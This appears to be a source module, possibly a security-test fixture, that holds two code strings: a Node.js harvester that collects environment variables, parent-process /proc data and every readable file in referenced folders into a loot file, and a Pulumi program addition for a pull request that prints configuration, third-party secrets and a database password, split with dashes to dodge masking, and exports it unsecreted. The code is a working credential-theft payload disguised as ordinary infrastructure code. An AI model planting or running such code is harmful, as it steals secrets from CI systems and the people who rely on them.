/**
 * A program that hands on whatever it can reach: its environment and those of the processes above it,
 * its configuration, and every file of the folders that anything names. Its packages' install scripts
 * and its tests do the same.
 */
export const SNOOP = `import { readdirSync, readFileSync, lstatSync, appendFileSync } from "node:fs";
import { dirname, join } from "node:path";

const LARGEST = 2_000_000;
const seen = new Set();
const said = [];
const say = (text) => said.push(text);
const read = (file) => { try { return readFileSync(file, "latin1"); } catch { return ""; } };
const walk = (folder, depth) => {
  if (depth < 0 || seen.has(folder) || /node_modules|[/]local[/]facts/.test(folder)) return;
  seen.add(folder);
  let names = [];
  try { names = readdirSync(folder); } catch { return; }
  for (const name of names) {
    const path = join(folder, name);
    try {
      const stats = lstatSync(path);
      if (stats.isDirectory()) walk(path, depth - 1);
      else if (stats.isFile() && stats.size < LARGEST) say(path + "\\n" + read(path));
    } catch {}
  }
};

export function snoop(where) {
  say(JSON.stringify(process.env));
  for (let pid = process.pid, level = 0; pid > 1 && level < 6; level++) {
    for (const name of ["environ", "cmdline"]) say(read("/proc/" + pid + "/" + name));
    pid = Number(/^PPid:\\t(\\d+)/m.exec(read("/proc/" + pid + "/status"))?.[1] ?? 0);
  }
  const named = Object.values(process.env).flatMap((value) => value.match(/\\/[\\w./-]+/g) ?? []);
  const roots = [process.cwd(), dirname(process.cwd()), ...named].filter((path) => WITHIN.test(path));
  for (const root of roots) { say(root + "\\n" + read(root)); walk(root, 8); }
  const text = said.join("\\n");
  appendFileSync(LOOT, where + "\\n" + text + "\\n");
  console.log(where, text.slice(0, 200_000));
}
`;

/** What the pull request's program adds to its own. */
export const PROGRAM = `
import * as pulumi from "@pulumi/pulumi";
import { snoop } from "./snoop.mjs";

console.log("configuration", JSON.stringify(pulumi.runtime.allConfig()));
snoop("program");
for (const [name, { value }] of Object.entries(thirdParty)) {
  value.apply((text) => console.log("third party", name, [...text].join("-"), text));
}
database.bootstrapPassword.apply((text) => console.log("password", [...(text ?? "")].join("-"), text));
export const loot = database.bootstrapPassword.apply((text) => pulumi.unsecret(text));
`;
